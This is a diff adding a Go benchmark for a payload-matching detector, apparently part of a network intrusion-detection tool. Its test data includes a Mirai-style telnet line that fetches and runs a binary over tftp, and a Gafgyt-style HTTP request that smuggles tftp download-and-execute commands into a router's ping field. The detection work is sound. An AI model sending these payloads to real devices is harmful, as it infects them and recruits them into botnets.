@@ -83,6 +83,31 @@ func BenchmarkMatchPayload(b *testing.B) {
 	}
 }
 
+// BenchmarkMatchPayloadCommand: the built-in command rules on a loader's
+// telnet line, an exploit's URL-encoded body, and a web request that names
+// loader files and tftp outside any fetch command.
+func BenchmarkMatchPayloadCommand(b *testing.B) {
+	s := Default()
+	for _, c := range []struct {
+		name string
+		port uint16
+		p    string
+	}{
+		{"telnet-mirai", 23, "/bin/busybox tftp -g -l dvrHelper -r mirai.arm7 10.0.0.9; /bin/busybox chmod 777 dvrHelper; /bin/busybox ECCHI\r\n"},
+		{"http-gafgyt", 80, "POST /boaform/formPing6 HTTP/1.1\r\nHost: 10.0.0.5\r\n\r\npingAddr=%3bcd+/tmp%3btftp+10.0.0.9+-c+get+axistftp1.sh%3bsh+axistftp1.sh%3btftp+-r+axistftp2.sh+-g+10.0.0.9"},
+		{"http-innocent", 80, "GET /mirror/tftp/bins/tftp1.sh?q=tftp+mirai.arm7 HTTP/1.1\r\nHost: mirror.example\r\nUser-Agent: curl/8.5.0\r\nAccept: */*\r\n\r\n"},
+	} {
+		b.Run(c.name, func(b *testing.B) {
+			p := []byte(c.p)
+			b.ReportAllocs()
+			b.SetBytes(int64(len(p)))
+			for b.Loop() {
+				s.MatchPayloads(TCP, c.port, p, func(PayloadMatch) bool { return true })
+			}
+		})
+	}
+}
+
 // BenchmarkLoad1M loads a file of 1,000,000 plain-string names and reports
 // the wall time per load and the heap the set keeps after GC.
 func BenchmarkLoad1M(b *testing.B) {
